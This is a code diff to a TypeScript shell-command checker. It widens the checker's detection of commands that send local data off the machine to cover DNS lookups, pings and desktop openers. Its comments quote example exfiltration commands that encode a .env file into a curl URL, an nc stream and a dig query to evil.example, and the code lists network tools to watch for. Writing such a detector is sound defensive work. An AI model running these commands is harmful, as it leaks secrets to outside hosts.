@@ -1,8 +1,9 @@
 // What a command sends to another machine. Two shapes: a local file it uploads by name (curl's `@file`
 // and `-T`, wget's `--post-file`), and data the command gathers as it runs — a command substitution, a
 // variable, or standard input (a redirect, a pipe) — in a request by curl, wget, nc or ssh to a host that
-// is not this machine (`curl "https://x/?k=$(base64 < .env)"`, `nc host 80 < .env`). Posting to one's
-// own dev server on localhost is everyday work and stays quiet. (scp and rsync send files by operand:
+// is not this machine (`curl "https://x/?k=$(base64 < .env)"`, `nc host 80 < .env`), or in the host or URL
+// a name lookup, a ping or an opener is given (`dig $(base64 < .env).evil.example`: the query carries it).
+// Posting to one's own dev server on localhost is everyday work and stays quiet. (scp and rsync send files by operand:
 // the caller warns about a remote destination.)
 import type { Redirect } from './shellSyntax';
 import { ownEntry } from './ownEntry';
@@ -50,6 +51,12 @@ export function uploadsFile(name: string, args: string[]): boolean {
   return false;
 }
 
+/**
+ * Programs that send the host or URL they are given to a resolver, a host or a browser: DNS lookups, pings
+ * and traceroutes, and the desktop's openers (`xdg-open`, macOS `open`, Windows `start`).
+ */
+const NAMES_HOST = new Set(['dig', 'host', 'nslookup', 'drill', 'ping', 'ping6', 'traceroute', 'traceroute6', 'tracepath', 'xdg-open', 'open', 'start']);
+
 /** Options of nc and ssh that take the next word as their value (so it is no host). */
 const VALUED: Record<string, string> = { nc: 'pswiqXxTVIOecgGmM', ssh: 'BbcDEeFIiJLlmOopQRSWw' };
 const CLIENT: Record<string, string> = { nc: 'nc', ncat: 'nc', netcat: 'nc', ssh: 'ssh' };
@@ -60,6 +67,8 @@ const STDIN = new Set(['<', '<<', '<<-', '<<<', '<>', '<&']);
  * from a redirect or a pipe: `piped`) to a host that is not this machine.
  */
 export function sendsGatheredData(name: string, args: string[], redirects: Redirect[], piped: boolean): boolean {
+  // what they read is no request: only a substitution or variable in their words is sent
+  if (NAMES_HOST.has(name)) return args.some((a) => /[$`]/.test(a)) && !onlyLocalUrls(args);
   const client = name === 'curl' || name === 'wget' ? name : ownEntry(CLIENT, name);
   if (!client) return false;
   const gathered = piped || args.some((a) => a.includes('$')) || redirects.some((r) => STDIN.has(r.op) && r.target !== '-');
